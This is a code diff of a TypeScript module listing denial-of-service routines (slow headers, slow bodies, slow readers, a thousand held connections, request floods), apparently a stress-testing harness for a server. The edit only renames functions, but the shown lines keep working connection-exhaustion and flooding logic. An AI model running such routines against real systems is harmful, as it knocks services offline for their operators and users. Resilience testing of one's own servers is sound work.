@@ -22,9 +22,9 @@ type Attack = (target: Target) => void;
 
 /** Each runs until its process ends; closed connections are reopened. */
 export const attacks: Record<string, Attack> = {
-  'slow headers': (target) => hold(target, 200, () => 'GET /map HTTP/1.1\r\nX-Slow: ', 'x'),
+  'slow headers': (target) => stall(target, 200, () => 'GET /map HTTP/1.1\r\nX-Slow: ', 'x'),
   'slow bodies': (target) =>
-    hold(
+    stall(
       target,
       140,
       (one) =>
@@ -32,10 +32,10 @@ export const attacks: Record<string, Attack> = {
       ' ',
     ),
   'slow readers': (target) => {
-    hold(target, 140, () => head(target, 'GET', target.large).repeat(60));
-    hold(target, 1, () => head(target, 'GET', target.large).repeat(400));
+    stall(target, 140, () => head(target, 'GET', target.large).repeat(60));
+    stall(target, 1, () => head(target, 'GET', target.large).repeat(400));
   },
-  'thousand connections': (target) => hold(target, 1000, () => ''),
+  'thousand connections': (target) => stall(target, 1000, () => ''),
   floods: (target) => {
     for (let one = 0; one < FLOODERS; one++) flood(target, one);
   },
@@ -55,7 +55,7 @@ function open({ address, port }: Target): Socket {
 }
 
 /** Connections that send an incomplete request, then a few bytes now and then, and read nothing. */
-function hold(target: Target, connections: number, first: (one: number) => string, trickle?: string): void {
+function stall(target: Target, connections: number, first: (one: number) => string, trickle?: string): void {
   for (let one = 0; one < connections; one++) {
     const start = () => {
       const socket = open(target);
@@ -102,9 +102,9 @@ function flood(target: Target, seed: number): void {
   ];
   const start = () => {
     const socket = open(target);
-    const ask = () => socket.write(head(target, 'GET', paths[count++ % paths.length]!()));
+    const sendRequest = () => socket.write(head(target, 'GET', paths[count++ % paths.length]!()));
     // A response may arrive in several parts: one request per part keeps the connection saturated.
-    socket.on('data', ask).once('connect', ask);
+    socket.on('data', sendRequest).once('connect', sendRequest);
     socket.once('close', () => setTimeout(start, 100));
   };
   start();
